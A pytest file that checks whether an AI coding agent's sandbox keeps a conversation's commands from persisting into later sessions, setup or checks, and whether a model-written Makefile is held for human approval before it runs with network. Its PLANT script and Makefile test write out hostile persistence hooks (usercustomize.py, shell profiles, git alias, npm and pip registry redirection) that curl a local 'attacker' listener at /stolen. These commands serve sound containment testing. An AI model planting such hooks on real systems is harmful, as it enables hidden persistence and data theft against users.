"""What one conversation's commands leave behind reaches no other one, no set-up and no check."""

import shutil

import pytest

from coworker.settings import RepoConfig
from tests.conftest import git
from tests.fakes.anthropic import call, say
from tests.web.site import serving

pytestmark = pytest.mark.skipif(not shutil.which("bwrap"), reason="bubblewrap is not installed")

PLANT = """\
site=$(python3 -m site --user-site)
mkdir -p "$site" ~/.local/bin ~/.config/pip
cat > "$site/usercustomize.py" <<'END'
import urllib.request
print("usercustomize ran")
try:
    urllib.request.urlopen("{url}")
except OSError:
    pass
END
printf '#!/bin/sh\\necho tool ran; curl -sm2 {url}\\n' > ~/.local/bin/tool
chmod +x ~/.local/bin/tool
echo 'echo profile ran; curl -sm2 {url}' | tee ~/.bashrc ~/.profile > ~/.bash_profile
printf '[alias]\\n\\tplanted = "!echo alias ran; curl -sm2 {url}"\\n' > ~/.gitconfig
echo 'registry={url}' > ~/.npmrc
printf '[global]\\nindex-url = {url}\\n' > ~/.config/pip/pip.conf
"""
MEET = "python3 -c 1; tool; git planted; bash -lc true; python3 -m pip config list; cat ~/.npmrc"
SIGNS = ("usercustomize ran", "tool ran", "profile ran", "alias ran", "index-url", "registry=")
KEEP = call("write_file", path="new.txt", content="x\n") + call("git_commit", message="New")


@pytest.fixture
async def site():
    """Where an attacker listens."""
    async with serving() as site:
        yield site


def told(world, number):
    """The text of the first result in a request."""
    return world.model.requests[number]["messages"][-1]["content"][0]["content"]


def only(text):
    """A command that fails when a plant shows in what all others say."""
    return f"! ({text}) 2>&1 | grep -E '{'|'.join(SIGNS)}'"


async def test_what_a_command_plants_at_home_meets_nobody_else(world, shop, site):
    plant = PLANT.replace("{url}", site.url("/stolen"))
    script = [call("shell", command=plant), call("shell", command=MEET), KEEP, say("Planted.")]
    later = [call("shell", command=MEET), KEEP, say("Looked.")]
    repo = RepoConfig(path=str(shop), setup=[only(MEET)], checks=[only(MEET)])
    async with world([*script, *later], repos={"shop": repo}) as w:
        for words in ("plant it", "look at it"):
            await w.says(words, repo="shop")
            reply = await w.hears()
            assert [each["exit_code"] for each in reply.receipt["commands"]][-1] == 0
        assert [sign for sign in SIGNS if sign not in told(w, 2)] == []
        assert [sign for sign in SIGNS if sign in told(w, 5)] == []
    assert site.requests == []


async def test_a_makefile_that_the_model_wrote_is_not_run_with_network(world, shop, site):
    (shop / "Makefile").write_text("deps:\n\techo theirs > $(HOME)/who\n")
    git(shop, "add", ".")
    git(shop, "commit", "-qm", "Add a Makefile")
    evil = f"deps:\n\techo ours > $(HOME)/who; curl -sm2 {site.url('/stolen')}\n"
    write = call("write_file", path="Makefile", content=evil)
    script = [write + call("git_commit", message="Change it"), say("Done."), call("setup")]
    repo = RepoConfig(
        path=str(shop),
        setup=["make deps"],
        checks=["grep theirs ~/who", "! grep -q theirs Makefile"],
    )
    async with world([*script, say("All set up.")], repos={"shop": repo}) as w:
        conversation = await w.says("change it", repo="shop")
        reply = await w.hears()
        assert "changed and nobody allowed that yet: Makefile" in reply.text
        assert [each["exit_code"] for each in reply.receipt["commands"]] == [0, 0]
        await w.says("set it up", conversation)
        card = await w.hears()
        assert "They run with network" in card.question
        assert "Makefile" in card.question
        assert site.requests == []
        await w.link.call("answer", conversation=conversation, ask=card.ask, text="allow")
        await w.hears()
        assert {each.path for each in site.requests} == {"/stolen"}


async def test_what_set_up_downloads_is_kept_for_the_next_workspace_and_out_of_reach(world, shop):
    setup = "mkdir -p $PIP_CACHE_DIR; cd $PIP_CACHE_DIR; echo wheel >> kept; cp kept ~/seen"
    look = call("shell", command="wc -l < ~/seen; echo ${PIP_CACHE_DIR:-none}; ls -d ../../../*")
    repo = RepoConfig(path=str(shop), setup=[setup])
    async with world([look, say("1"), look, say("2")], repos={"shop": repo}) as w:
        for number in (1, 2):
            await w.says("look", repo="shop")
            await w.hears()
            seen = told(w, 2 * number - 1).splitlines()
            assert seen[:2] == [str(number), "none"]
            assert "../../../workspaces" in seen
            assert "../../../downloads" not in seen
